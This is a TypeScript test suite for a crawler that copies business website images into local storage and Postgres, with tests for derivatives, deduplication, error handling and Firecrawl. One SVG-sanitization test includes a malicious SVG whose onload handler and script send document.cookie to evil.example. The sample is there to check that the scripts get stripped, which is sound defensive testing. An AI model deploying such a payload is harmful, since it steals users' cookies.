import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { crawlBusinessImages, type CrawlProgress, type CrawlResult } from '../src/crawl/crawl.ts'
import { engineFromEnv, runCrawl, runCrawlMissing } from '../src/crawl/job.ts'
import { storeCrawledImages } from '../src/crawl/store-images.ts'
import type { JobProgress } from '../src/store/types.ts'
import { runMigration } from '../src/migrate/job.ts'
import { type EmbeddedStore } from '../src/store/embedded.ts'
import { freshStoreIn } from './support/fresh-store.ts'
import { startFirecrawlStandIn } from './crawl-firecrawl-stand-in.ts'
import { photoJpeg } from './support/image-fixtures.ts'
import { closedPort } from './support/free-port.ts'
import { FIXTURE_SITES, startFixtureSite, type FixtureRoute, type FixtureSite } from './crawl-fixture-server.ts'

// Crawled images end up in our storage and in business_images: the real embedded Postgres with its
// files in a temporary folder, the fixture websites on 127.0.0.1, nothing of ours stood in for.

const HERO = '/wp-content/uploads/2024/03/bakery-storefront.jpg'
const THUMBNAIL = '/wp-content/uploads/2024/03/sourdough-counter.jpg'
const LOGO = '/wp-content/uploads/2024/01/main-street-bakery-logo.png'
const OTHER_PHOTO = '/wp-content/uploads/2024/03/cinnamon-rolls.jpg'

let dir: string
let filesDir: string
let store: EmbeddedStore
const opened: FixtureSite[] = []

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'roland-crawl-store-'))
  filesDir = path.join(dir, 'storage', 'files', 'business-images')
  store = await freshStoreIn(dir)
  const text = await readFile(path.join(import.meta.dirname, 'fixtures', 'roland-small.txt'))
  await runMigration({ store, source: { bytes: new Uint8Array(text) } })
})

afterAll(async () => {
  await Promise.all(opened.map((site) => site.close()))
  await store?.close()
  await rm(dir, { recursive: true, force: true })
})

beforeEach(async () => {
  await store.db.exec(`
    drop trigger if exists fail_on_image on business_images;
    delete from business_images;
    delete from jobs;
    update businesses set website = null, is_active = true;`)
  await rm(filesDir, { recursive: true, force: true })
  await rm(path.join(dir, 'storage', 'files', 'variants'), { recursive: true, force: true })
})

async function site(name: string, routes: Record<string, FixtureRoute> = {}): Promise<FixtureSite> {
  const started = await startFixtureSite(name, routes)
  opened.push(started)
  return started
}

const fixtureBytes = async (file: string) => new Uint8Array(await readFile(path.join(FIXTURE_SITES, file)))
const serve =
  (type: string, body: Uint8Array | string): FixtureRoute =>
  (_request, response) =>
    void response.writeHead(200, { 'content-type': type }).end(body)
const missing: FixtureRoute = (_request, response) =>
  void response.writeHead(404, { 'content-type': 'text/html' }).end('<h1>Not found</h1>')

async function business(slug: string) {
  const found = (await store.listBusinesses()).find((candidate) => candidate.slug === slug)
  if (!found) throw new Error(`no business ${slug} in the fixture file`)
  return found
}

async function setWebsite(slug: string, url: string | null, active = true): Promise<void> {
  await store.db.query('update businesses set website = $2, is_active = $3 where slug = $1', [slug, url, active])
}

function crawl(fixture: FixtureSite, businessName = 'Main Street Bakery'): Promise<CrawlResult> {
  return crawlBusinessImages({
    businessName,
    websiteUrl: fixture.url('/'),
    engine: 'builtin',
    allowPrivateNetwork: true,
  })
}

async function storeFor(slug: string, result: CrawlResult) {
  return storeCrawledImages({ store, business: await business(slug), result, allowPrivateNetwork: true })
}

async function filesOnDisk(): Promise<string[]> {
  return (await readdir(filesDir).catch(() => [] as string[])).sort()
}

async function rows(slug: string) {
  const { id } = await business(slug)
  const result = await store.db.query<{
    id: string
    image_type: string
    image_url: string
    alt_text: string | null
    is_primary: boolean
    sort_order: number
    metadata: Record<string, unknown>
  }>(
    `select id, image_type, image_url, alt_text, is_primary, sort_order, metadata
       from business_images where business_id = $1 order by sort_order, created_at`,
    [id],
  )
  return result.rows
}

describe('storeCrawledImages', () => {
  test('copies the hero, thumbnail and logo into business-images/ and records them as rows', async () => {
    const bakery = await site('wordpress-bakery')
    const coffee = await business('big-rock-coffee-house')
    const outcome = await storeFor('big-rock-coffee-house', await crawl(bakery))

    expect(outcome.skipped).toEqual([])
    expect(outcome.stored.map(({ role, sourceUrl, created }) => ({ role, sourceUrl, created }))).toEqual([
      { role: 'hero', sourceUrl: bakery.url(HERO), created: true },
      { role: 'thumbnail', sourceUrl: bakery.url(THUMBNAIL), created: true },
      { role: 'logo', sourceUrl: bakery.url(LOGO), created: true },
    ])
    const files = await filesOnDisk()
    expect(files).toEqual([
      expect.stringMatching(new RegExp(`^${coffee.id}-hero-[0-9a-f]{16}\\.jpg$`)),
      expect.stringMatching(new RegExp(`^${coffee.id}-logo-[0-9a-f]{16}\\.png$`)),
      expect.stringMatching(new RegExp(`^${coffee.id}-thumbnail-[0-9a-f]{16}\\.jpg$`)),
    ])
    const hero = outcome.stored[0]!
    expect(await readFile(path.join(dir, 'storage', 'files', hero.path))).toEqual(
      Buffer.from(await fixtureBytes(`wordpress-bakery${HERO}`)),
    )

    const recorded = await rows('big-rock-coffee-house')
    expect(
      recorded.map(({ image_type, image_url, is_primary, sort_order }) => ({
        image_type,
        image_url,
        is_primary,
        sort_order,
      })),
    ).toEqual([
      { image_type: 'hero', image_url: `/files/${hero.path}`, is_primary: true, sort_order: 0 },
      { image_type: 'thumbnail', image_url: `/files/${outcome.stored[1]!.path}`, is_primary: true, sort_order: 1 },
      { image_type: 'logo', image_url: `/files/${outcome.stored[2]!.path}`, is_primary: true, sort_order: 2 },
    ])
    expect(recorded[0]!.metadata).toMatchObject({
      source: 'crawl',
      sourceUrl: bakery.url(HERO),
      websiteUrl: bakery.url('/'),
      engine: 'builtin',
      contentType: 'image/jpeg',
      width: 16,
      height: 9,
      crawledAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
      sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
    })
    expect(recorded.every((row) => row.alt_text && row.alt_text.length > 2)).toBe(true)
  })

  test('stores AVIF, WebP and JPEG derivatives of a 2400×1600 photo with a placeholder, in the row it inserts', async () => {
    const bakery = await site('wordpress-bakery', { [HERO]: serve('image/jpeg', await photoJpeg(2400, 1600)) })
    const outcome = await storeFor('big-rock-coffee-house', await crawl(bakery))
    const hero = outcome.stored.find((image) => image.role === 'hero')!
    expect(hero).toMatchObject({ created: true, width: 2400, height: 1600 })

    const { rows: recorded } = await store.db.query<{
      width: number
      height: number
      placeholder: string | null
      variants: Array<{ format: string; width: number; height: number; url: string; bytes: number }>
    }>('select width, height, placeholder, variants from business_images where image_url = $1', [hero.imageUrl])
    const row = recorded[0]!
    expect([row.width, row.height]).toEqual([2400, 1600])
    expect(row.placeholder).toMatch(/^[A-Za-z0-9+/]{20,}=*$/)
    expect(row.variants.map((v) => `${v.format} ${v.width}×${v.height}`)).toEqual([
      'avif 320×213',
      'webp 320×213',
      'jpeg 320×213',
      'avif 640×427',
      'webp 640×427',
      'jpeg 640×427',
      'avif 720×480',
      'webp 720×480',
      'jpeg 720×480',
      'avif 960×640',
      'webp 960×640',
      'jpeg 960×640',
      'avif 1440×960',
      'webp 1440×960',
      'jpeg 1440×960',
    ])
    for (const variant of row.variants) {
      const file = await readFile(path.join(dir, 'storage', 'files', variant.url.replace(/^\/files\//, '')))
      expect(file.byteLength).toBe(variant.bytes)
    }
  })

  test('skips a corrupt photo with its URL and writes nothing for it', async () => {
    const whole = await photoJpeg(1200, 800)
    const bakery = await site('wordpress-bakery', { [HERO]: serve('image/jpeg', whole.subarray(0, 3000)) })
    const outcome = await storeFor('big-rock-coffee-house', await crawl(bakery))
    expect(outcome.skipped).toEqual([
      {
        role: 'hero',
        url: bakery.url(HERO),
        reason: expect.stringMatching(new RegExp(`^${bakery.url(HERO)} is a damaged JPG file`)),
      },
    ])
    expect(outcome.stored.map((image) => image.role)).toEqual(['thumbnail', 'logo'])
    expect(await filesOnDisk()).toHaveLength(2)
    const variants = await readdir(path.join(dir, 'storage', 'files', 'variants', 'business-images'))
    expect(variants.filter((name) => name.includes('-hero-'))).toEqual([])
  })

  test('shows our copies only: no row points at the business website', async () => {
    const bakery = await site('wordpress-bakery')
    await storeFor('big-rock-coffee-house', await crawl(bakery))
    const urls = (await rows('big-rock-coffee-house')).map((row) => row.image_url)
    expect(urls).toHaveLength(3)
    expect(urls.filter((url) => !url.startsWith('/files/business-images/'))).toEqual([])
  })

  test('adds no row and no file when the same site is crawled again', async () => {
    const bakery = await site('wordpress-bakery')
    await storeFor('big-rock-coffee-house', await crawl(bakery))
    const filesBefore = await filesOnDisk()
    const rowsBefore = await rows('big-rock-coffee-house')

    const again = await storeFor('big-rock-coffee-house', await crawl(bakery))
    expect(again.stored.map((image) => [image.role, image.created])).toEqual([
      ['hero', false],
      ['thumbnail', false],
      ['logo', false],
    ])
    expect(await filesOnDisk()).toEqual(filesBefore)
    expect(await rows('big-rock-coffee-house')).toEqual(rowsBefore)
  })

  test('skips a missing image and a web page posing as one, saying why, and stores the rest', async () => {
    const bakery = await site('wordpress-bakery', {
      [THUMBNAIL]: missing,
      [LOGO]: serve('text/html; charset=utf-8', '<!DOCTYPE html><title>Logo</title>'),
    })
    const outcome = await storeFor('big-rock-coffee-house', await crawl(bakery))
    expect(outcome.skipped).toEqual([
      {
        role: 'thumbnail',
        url: bakery.url(THUMBNAIL),
        reason: `${bakery.url(THUMBNAIL)} answered HTTP 404: the image is missing`,
      },
      { role: 'logo', url: bakery.url(LOGO), reason: `${bakery.url(LOGO)} is text/html, not an image` },
    ])
    expect(outcome.stored.map((image) => image.role)).toEqual(['hero'])
    expect((await rows('big-rock-coffee-house')).map((row) => row.image_type)).toEqual(['hero'])
    expect(await filesOnDisk()).toHaveLength(1)
  })

  test('stores an SVG logo rebuilt without its scripts and skips the photo on a host that does not exist', async () => {
    const evil =
      '<svg xmlns="http://www.w3.org/2000/svg" width="160" height="40" onload="alert(1)">' +
      '<script>fetch("https://evil.example/?c=" + document.cookie)</script>' +
      '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example"/></body></foreignObject>' +
      '<path d="M4 36 L20 6 L36 36 Z" fill="#c0392b"/></svg>'
    const smokehouse = await site('onepage-smokehouse', {
      '/img/pinnacle-smokehouse.svg': serve('image/svg+xml', evil),
    })
    const outcome = await storeFor('lakeview-marina', await crawl(smokehouse, 'Pinnacle Smokehouse'))

    expect(outcome.skipped).toEqual([
      {
        role: 'thumbnail',
        url: 'http://cdn.pinnaclesmokehouse.example/photos/brisket-plate.jpg',
        reason: expect.stringContaining('cdn.pinnaclesmokehouse.example'),
      },
    ])
    const logo = outcome.stored.find((image) => image.role === 'logo')!
    expect(logo).toMatchObject({ contentType: 'image/svg+xml', width: 160, height: 40 })
    const file = await readFile(path.join(dir, 'storage', 'files', logo.path), 'utf8')
    expect(file).toBe(
      '<svg xmlns="http://www.w3.org/2000/svg" width="160" height="40"><path d="M4 36 L20 6 L36 36 Z" fill="#c0392b"/></svg>\n',
    )
    const row = (await rows('lakeview-marina')).find((candidate) => candidate.image_type === 'logo')!
    expect(row.metadata['sanitized']).toEqual(
      expect.arrayContaining(['onload attribute', 'script element', 'foreignObject element']),
    )
  })

  test('keeps SVG for logos only', async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="1600" height="900"><rect width="9" height="9"/></svg>'
    const bakery = await site('wordpress-bakery', { [HERO]: serve('image/jpeg', svg) })
    const outcome = await storeFor('big-rock-coffee-house', await crawl(bakery))
    expect(outcome.skipped).toEqual([
      {
        role: 'hero',
        url: bakery.url(HERO),
        reason: `${bakery.url(HERO)} is image/svg+xml; a hero must be JPEG, PNG, WebP, GIF or AVIF: an SVG is kept only as a logo, where it is cleaned of scripts`,
      },
    ])
    expect(outcome.stored.map((image) => image.role)).toEqual(['thumbnail', 'logo'])
  })

  test('stores a picture chosen for two roles once', async () => {
    const bakery = await site('wordpress-bakery', {
      [THUMBNAIL]: serve('image/jpeg', await fixtureBytes(`wordpress-bakery${HERO}`)),
    })
    const outcome = await storeFor('big-rock-coffee-house', await crawl(bakery))
    expect(outcome.skipped).toEqual([
      { role: 'thumbnail', url: bakery.url(THUMBNAIL), reason: 'the same picture as the hero' },
    ])
    expect((await rows('big-rock-coffee-house')).map((row) => row.image_type)).toEqual(['hero', 'logo'])
    expect(await filesOnDisk()).toHaveLength(2)
  })

  test('takes the primary flag from an earlier crawl, never from an image a person chose', async () => {
    const coffee = await business('big-rock-coffee-house')
    await store.addImage({
      business_id: coffee.id,
      image_url: '/files/business-images/chosen-logo.png',
      alt_text: 'Big Rock Coffee House logo',
      image_type: 'logo',
      is_primary: true,
      sort_order: 0,
      metadata: { uploadedBy: 'operator' },
    })
    const first = await site('wordpress-bakery')
    await storeFor('big-rock-coffee-house', await crawl(first))
    // The site changed its storefront photo since: a new picture at the same address.
    const changed = await site('wordpress-bakery', {
      [HERO]: serve('image/jpeg', await fixtureBytes(`wordpress-bakery${OTHER_PHOTO}`)),
    })
    const second = await storeFor('big-rock-coffee-house', await crawl(changed))
    expect(second.stored.find((image) => image.role === 'hero')).toMatchObject({ created: true, isPrimary: true })

    const recorded = await rows('big-rock-coffee-house')
    const primaries = recorded
      .filter((row) => row.is_primary)
      .map((row) => [row.image_type, row.metadata['sourceUrl'] ?? row.image_url])
    expect(primaries).toEqual([
      ['logo', '/files/business-images/chosen-logo.png'],
      ['thumbnail', first.url(THUMBNAIL)],
      ['hero', changed.url(HERO)],
    ])
    expect(recorded.filter((row) => row.image_type === 'hero')).toHaveLength(2)
    expect(recorded).toHaveLength(5)
  })

  test('takes a file already in storage as stored, not as an error', async () => {
    const bakery = await site('wordpress-bakery')
    await storeFor('big-rock-coffee-house', await crawl(bakery))
    const files = await filesOnDisk()
    // The rows are gone (an operator removed them), the files stayed.
    await store.db.exec('delete from business_images')
    const again = await storeFor('big-rock-coffee-house', await crawl(bakery))
    expect(again.stored.map((image) => image.created)).toEqual([true, true, true])
    expect(await filesOnDisk()).toEqual(files)
    expect(await rows('big-rock-coffee-house')).toHaveLength(3)
  })

  test('removes every file it wrote, and adds no row, when the rows cannot be recorded', async () => {
    const bakery = await site('wordpress-bakery')
    const result = await crawl(bakery)
    await store.db.exec(`
      create or replace function fail_on_image() returns trigger language plpgsql as
        $$ begin raise exception 'disk quota exceeded'; end $$;
      create trigger fail_on_image before insert on business_images for each row execute function fail_on_image();`)
    await expect(storeFor('big-rock-coffee-house', result)).rejects.toThrow(
      /^Failed to record the images of Big Rock Coffee House: .*disk quota exceeded.*\. The downloaded files and their derivatives were removed; run the crawl again$/,
    )
    expect(await filesOnDisk()).toEqual([])
    expect(await rows('big-rock-coffee-house')).toEqual([])
  })
})

describe('runCrawl', () => {
  test('records a crawl job with the crawler’s phases, then downloading and storing images', async () => {
    const bakery = await site('wordpress-bakery')
    await setWebsite('big-rock-coffee-house', bakery.url('/'))
    const phases: string[] = []
    const result = await runCrawl({
      store,
      target: { slug: 'big-rock-coffee-house' },
      engine: { engine: 'builtin' },
      allowPrivateNetwork: true,
      onEvent: (event) => {
        if ('progress' in event && phases.at(-1) !== event.progress.phase) phases.push(event.progress.phase)
      },
    })
    expect(phases).toEqual([
      'fetching home page',
      'fetching pages',
      'choosing images',
      'downloading images',
      'storing images',
    ])
    expect(result).toMatchObject({
      business: { slug: 'big-rock-coffee-house' },
      dryRun: false,
      heroUrl: bakery.url(HERO),
    })
    const job = await store.jobs.get(result.jobId!)
    expect(job).toMatchObject({
      kind: 'crawl',
      status: 'succeeded',
      params: { slug: 'big-rock-coffee-house', websiteUrl: bakery.url('/'), engine: 'builtin' },
      progress: { phase: 'storing images', done: 3, total: 3 },
    })
    const recorded = job!.result as { stored: unknown[]; heroUrl: string }
    expect(recorded.stored).toHaveLength(3)
    expect(recorded.heroUrl).toBe(bakery.url(HERO))
  })

  test('a dry run crawls, records no job and writes nothing', async () => {
    const bakery = await site('wordpress-bakery')
    await setWebsite('big-rock-coffee-house', bakery.url('/'))
    const result = await runCrawl({
      store,
      target: { slug: 'big-rock-coffee-house' },
      engine: { engine: 'builtin' },
      allowPrivateNetwork: true,
      dryRun: true,
    })
    expect(result).toMatchObject({ dryRun: true, jobId: null, stored: [], heroUrl: bakery.url(HERO) })
    expect(await store.jobs.list()).toEqual([])
    expect(await rows('big-rock-coffee-house')).toEqual([])
    expect(await filesOnDisk()).toEqual([])
  })

  test('crawls any address without a store when it is a dry run', async () => {
    const bakery = await site('wordpress-bakery')
    const result = await runCrawl({
      target: { url: bakery.url('/') },
      engine: { engine: 'builtin' },
      allowPrivateNetwork: true,
      dryRun: true,
    })
    expect(result).toMatchObject({ businessName: '127.0.0.1', business: null, logoUrl: bakery.url(LOGO) })
  })

  test('records a failed job when the website is down', async () => {
    await setWebsite('big-rock-coffee-house', `http://127.0.0.1:${await closedPort()}/`)
    await expect(
      runCrawl({
        store,
        target: { slug: 'big-rock-coffee-house' },
        engine: { engine: 'builtin' },
        allowPrivateNetwork: true,
      }),
    ).rejects.toThrow(/^Failed to crawl business images: 127\.0\.0\.1:\d+ refused the connection/)
    const [job] = await store.jobs.list()
    expect(job).toMatchObject({
      kind: 'crawl',
      status: 'failed',
      error: expect.stringContaining('refused the connection'),
    })
  })

  test('refuses a business without a website, saying what to do', async () => {
    await expect(
      runCrawl({ store, target: { slug: 'stop-n-go-market' }, engine: { engine: 'builtin' } }),
    ).rejects.toThrow(
      'Stop-N-Go Market has no website to crawl: add it to Roland.txt and migrate again, or crawl an address with --url',
    )
  })

  test('suggests the slugs nearest to one that does not exist', async () => {
    await expect(runCrawl({ store, target: { slug: 'lakeview' }, engine: { engine: 'builtin' } })).rejects.toThrow(
      'No business has the slug "lakeview". Did you mean lakeview-marina?',
    )
  })

  test('crawls through Firecrawl when a key is set and still copies the pictures from the site', async () => {
    const bakery = await site('wordpress-bakery')
    const html = (await readFile(path.join(FIXTURE_SITES, 'wordpress-bakery', 'index.html'), 'latin1')).replaceAll(
      '__ORIGIN__',
      bakery.origin,
    )
    const firecrawl = await startFirecrawlStandIn({
      apiKey: 'fc-test',
      pages: (url) => [{ html, metadata: { url, sourceURL: url, statusCode: 200 } }],
    })
    try {
      await setWebsite('big-rock-coffee-house', bakery.url('/'))
      const result = await runCrawl({
        store,
        target: { slug: 'big-rock-coffee-house' },
        engine: engineFromEnv({ FIRECRAWL_API_KEY: 'fc-test', FIRECRAWL_API_URL: firecrawl.apiUrl }),
        allowPrivateNetwork: true,
      })
      expect(result.engine).toBe('firecrawl')
      expect(result.stored.map((image) => [image.role, image.created])).toEqual([
        ['hero', true],
        ['thumbnail', true],
        ['logo', true],
      ])
      expect((await rows('big-rock-coffee-house'))[0]!.metadata).toMatchObject({ engine: 'firecrawl' })
    } finally {
      await firecrawl.close()
    }
  })
})

describe('engineFromEnv', () => {
  test('uses Firecrawl when its key is set, else the built-in crawler', () => {
    expect(engineFromEnv({})).toEqual({ engine: 'builtin' })
    expect(engineFromEnv({ FIRECRAWL_API_KEY: ' fc-1 ' })).toEqual({
      engine: 'firecrawl',
      firecrawl: { apiKey: 'fc-1', apiUrl: undefined },
    })
    expect(engineFromEnv({ FIRECRAWL_API_KEY: 'fc-1' }, 'builtin')).toEqual({ engine: 'builtin' })
  })

  test('answers with SPEC’s texts when the key is missing', () => {
    expect(() => engineFromEnv({}, 'firecrawl')).toThrow(/^Please set your API key first: set FIRECRAWL_API_KEY/)
    expect(() => engineFromEnv({ FIRECRAWL_API_URL: 'https://firecrawl.internal' })).toThrow(
      /^API key not found: FIRECRAWL_API_URL is set but FIRECRAWL_API_KEY is missing/,
    )
  })
})

describe('runCrawlMissing', () => {
  test('crawls every active business with a website and no images, going past a dead site and summarising', async () => {
    const bakery = await site('wordpress-bakery')
    const smokehouse = await site('onepage-smokehouse')
    await setWebsite('big-rock-coffee-house', bakery.url('/'))
    await setWebsite('lakeview-marina', `http://127.0.0.1:${await closedPort()}/`)
    await setWebsite('pinnacle-insurance-agency', smokehouse.url('/'))
    await setWebsite('stop-n-go-market', bakery.url('/'), false)
    const progress: JobProgress[] = []

    const result = await runCrawlMissing({
      store,
      engine: { engine: 'builtin' },
      allowPrivateNetwork: true,
      onEvent: (event) => 'progress' in event && progress.push(event.progress),
    })
    expect(result.crawled.map((outcome) => [outcome.slug, outcome.stored.length, outcome.skipped.length])).toEqual([
      ['big-rock-coffee-house', 3, 0],
      ['pinnacle-insurance-agency', 2, 1],
    ])
    expect(result.failed).toEqual([
      {
        slug: 'lakeview-marina',
        name: 'Lakeview Marina',
        websiteUrl: expect.stringMatching(/^http:\/\/127\.0\.0\.1:\d+\/$/),
        reason: expect.stringMatching(/^Failed to crawl business images: 127\.0\.0\.1:\d+ refused the connection/),
      },
    ])
    expect(result).toMatchObject({ stored: 5, skipped: { inactive: 1, withoutWebsite: 0, withImages: 0 } })
    expect(progress.at(-1)).toEqual({ phase: 'crawling websites', done: 3, total: 3 })
    const jobs = await store.jobs.list()
    expect(jobs.map((job) => [job.kind, job.status, job.id])).toEqual([['crawl', 'succeeded', result.jobId]])
    expect(await filesOnDisk()).toHaveLength(5)

    const again = await runCrawlMissing({ store, engine: { engine: 'builtin' }, allowPrivateNetwork: true })
    expect(again).toMatchObject({ crawled: [], stored: 0, skipped: { inactive: 1, withoutWebsite: 0, withImages: 2 } })
    expect(again.failed.map((failure) => failure.slug)).toEqual(['lakeview-marina'])
  })

  test('stops at the first business when Firecrawl cannot be reached, keeping what was stored', async () => {
    const bakery = await site('wordpress-bakery')
    await setWebsite('big-rock-coffee-house', bakery.url('/'))
    await setWebsite('lakeview-marina', bakery.url('/'))
    await expect(
      runCrawlMissing({
        store,
        engine: engineFromEnv({
          FIRECRAWL_API_KEY: 'fc-test',
          FIRECRAWL_API_URL: `http://127.0.0.1:${await closedPort()}`,
        }),
        concurrency: 1,
      }),
    ).rejects.toThrow(
      /Failed to connect to Firecrawl API.*Stopped after 1 of 2 businesses; the 0 images stored are kept$/,
    )
    const [job] = await store.jobs.list()
    expect(job).toMatchObject({ kind: 'crawl', status: 'failed' })
  })

  test('reports each business as a step of one progress bar', async () => {
    const bakery = await site('wordpress-bakery')
    await setWebsite('big-rock-coffee-house', bakery.url('/'))
    const progress: CrawlProgress[] = []
    await runCrawlMissing({
      store,
      engine: { engine: 'builtin' },
      allowPrivateNetwork: true,
      dryRun: true,
      onEvent: (event) => 'progress' in event && progress.push(event.progress),
    })
    expect(progress).toEqual([
      { phase: 'finding businesses', done: 0, total: 1 },
      { phase: 'finding businesses', done: 1, total: 1 },
      { phase: 'crawling websites', done: 0, total: 1 },
      { phase: 'crawling websites', done: 1, total: 1 },
    ])
    expect(await store.jobs.list()).toEqual([])
    expect(await filesOnDisk()).toEqual([])
  })
})
